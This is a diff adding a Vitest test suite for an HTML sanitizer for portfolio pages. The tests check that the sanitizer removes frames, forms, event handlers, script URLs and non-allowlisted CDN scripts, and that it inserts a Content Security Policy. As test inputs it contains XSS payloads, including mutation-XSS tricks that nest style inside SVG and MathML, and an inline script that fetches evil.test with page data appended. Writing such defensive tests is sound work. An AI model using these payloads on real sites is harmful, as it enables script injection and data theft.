@@ -0,0 +1,144 @@
+import { describe, expect, it } from "vitest";
+import { sanitizePortfolioHtml } from "./sanitize-html";
+
+const page = (head: string, body: string) => `<!DOCTYPE html><html lang="en"><head>${head}</head><body>${body}</body></html>`;
+
+const bodyOf = (html: string) => html.slice(html.indexOf("<body>") + "<body>".length, html.indexOf("</body>"));
+
+describe("sanitizePortfolioHtml", () => {
+  it("keeps ordinary markup unchanged", () => {
+    const body = '<main class="p-4"><h1>Alex Morgan</h1><a href="https://github.com/alexmorgan">GitHub</a><img src="/me.png" alt="Alex"></main>';
+    const { html, removed } = sanitizePortfolioHtml(page("<title>Alex</title>", body));
+
+    expect(bodyOf(html)).toBe(body);
+    expect(removed).toEqual([]);
+  });
+
+  it("removes frames, forms and plugins with their content", () => {
+    const { html, removed } = sanitizePortfolioHtml(
+      page("", '<p>Before</p><iframe src="https://evil.test"><p>inside</p></iframe><form action="https://evil.test"><input name="q"><p>form text</p></form><object data="x.swf"></object><p>After</p>')
+    );
+
+    expect(bodyOf(html)).toBe("<p>Before</p><p>After</p>");
+    expect(removed).toEqual(["<iframe>", "<form>", "<object>"]);
+  });
+
+  it("removes event handlers and script URLs", () => {
+    const { html } = sanitizePortfolioHtml(
+      page("", '<img src="/me.png" alt="Alex" onerror="alert(1)"><a href="java\tscript:alert(1)">Link</a><a href="data:text/html,hi">Data</a>')
+    );
+
+    expect(bodyOf(html)).toBe('<img src="/me.png" alt="Alex"><a>Link</a><a>Data</a>');
+  });
+
+  it("keeps mailto links and inline images", () => {
+    const body = '<a href="mailto:alex@mail.test">Email</a><img src="data:image/png;base64,iVBORw0KGgo=" alt="">';
+
+    expect(bodyOf(sanitizePortfolioHtml(page("", body)).html)).toBe(body);
+  });
+
+  it("only allows scripts, stylesheets and preconnects from the allowlisted CDNs", () => {
+    const { html, removed } = sanitizePortfolioHtml(
+      page(
+        '<script src="https://cdn.tailwindcss.com"></script><script src="https://evil.test/x.js"></script>' +
+          '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter"><link rel="stylesheet" href="https://evil.test/x.css">' +
+          '<link rel="preconnect" href="https://fonts.gstatic.com">',
+        ""
+      )
+    );
+
+    expect(html).toContain('<script src="https://cdn.tailwindcss.com"></script>');
+    expect(html).toContain('href="https://fonts.googleapis.com/css2?family=Inter"');
+    expect(html).toContain('href="https://fonts.gstatic.com"');
+    expect(html).not.toContain("evil.test");
+    expect(removed).toHaveLength(2);
+  });
+
+  it("removes every inline script", () => {
+    const { html, removed } = sanitizePortfolioHtml(
+      page('<script>tailwind.config = { theme: {} }</script>', '<script>fetch("https://evil.test?c=" + document.title)</script><p>Hi</p>')
+    );
+
+    expect(html).not.toContain("<script");
+    expect(bodyOf(html)).toBe("<p>Hi</p>");
+    expect(removed).toEqual(["inline <script>", "inline <script>"]);
+  });
+
+  it("reads <style> inside SVG and MathML as markup, like browsers do", () => {
+    for (const payload of [
+      "<svg><style><img src=x onerror=alert(1)></style></svg>",
+      "<math><mi><svg><style><img src=x onerror=alert(1)>",
+      "<svg><title><svg><style><img src=x onerror=alert(1)>",
+    ]) {
+      const { html, removed } = sanitizePortfolioHtml(page("", payload));
+
+      expect(html).not.toContain("onerror");
+      expect(removed).toContain("onerror handler on <img>");
+    }
+  });
+
+  it("treats <style> as raw text again once HTML closes the SVG", () => {
+    const { html } = sanitizePortfolioHtml(page("", '<svg></p><style><a title="</style><img src=x onerror=alert(1)>"></a></style>'));
+
+    expect(bodyOf(html)).toBe('<svg></p><style><a title="</style><img src="x">"></a></style>');
+  });
+
+  it("escapes angle brackets in attributes, so no value can close a raw-text element", () => {
+    const { html } = sanitizePortfolioHtml(page("", '<svg><foreignObject><div></foreignObject><style><a title="</style><img src=x onerror=alert(1)>"></a>'));
+
+    expect(bodyOf(html)).toContain('<a title="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;">');
+  });
+
+  it("treats <style/> as raw text in HTML", () => {
+    const { html } = sanitizePortfolioHtml(page("", "<style/><!--</style><img src=x onerror=alert(1)>-->"));
+
+    expect(bodyOf(html)).toBe('<style /><!--</style><img src="x">-->');
+  });
+
+  it("keeps inline SVG icons", () => {
+    const icon = '<svg class="w-5 h-5" fill="currentColor"><title>GitHub</title><path d="M10 0a10 10 0 100 20z" /></svg><p>After</p>';
+
+    expect(bodyOf(sanitizePortfolioHtml(page("", icon)).html)).toBe(icon);
+  });
+
+  it("adds rel=noopener to links that open a new tab", () => {
+    const { html } = sanitizePortfolioHtml(page("", '<a href="https://github.com" target="_blank" rel="opener">GitHub</a>'));
+
+    expect(bodyOf(html)).toBe('<a href="https://github.com" target="_blank" rel="noopener noreferrer">GitHub</a>');
+  });
+
+  it("replaces the page's own policies and refreshes with ours, after <meta charset>", () => {
+    const { html, removed } = sanitizePortfolioHtml(
+      page('<meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://evil.test"><meta http-equiv="Content-Security-Policy" content="default-src *">', ""),
+      { imageOrigins: ["https://assets.example.net"] }
+    );
+
+    expect(html).toMatch(/<head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'none'; [^"]*img-src 'self' data: blob: https:\/\/assets\.example\.net"><\/head>/);
+    expect(removed).toEqual(['<meta http-equiv="refresh">', '<meta http-equiv="Content-Security-Policy">']);
+  });
+
+  it("puts the policy ahead of scripts that come before <meta charset>", () => {
+    const { html } = sanitizePortfolioHtml(page('<script src="https://cdn.tailwindcss.com"></script><meta charset="utf-8">', ""));
+
+    expect(html).toMatch(/<head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="[^"]+"><script src="https:\/\/cdn\.tailwindcss\.com">/);
+  });
+
+  it("puts the policy ahead of elements that come before <head>", () => {
+    const { html } = sanitizePortfolioHtml('<html><script src="https://cdn.tailwindcss.com"></script><head><title>Hi</title></head><body></body></html>');
+
+    expect(html).toMatch(/^<html><head><meta http-equiv="Content-Security-Policy" content="[^"]+"><\/head><script /);
+  });
+
+  it("does not allow inline scripts in the policy", () => {
+    const { html } = sanitizePortfolioHtml(page("", ""));
+
+    expect(html).toContain("script-src https://cdn.tailwindcss.com;");
+    expect(html).not.toMatch(/script-src[^;]*'unsafe-inline'/);
+  });
+
+  it("creates <head> for the policy when the document has none", () => {
+    const { html } = sanitizePortfolioHtml("<html><body><p>Hi</p></body></html>");
+
+    expect(html).toMatch(/^<html><head><meta http-equiv="Content-Security-Policy" content="[^"]+"><\/head><body>/);
+  });
+});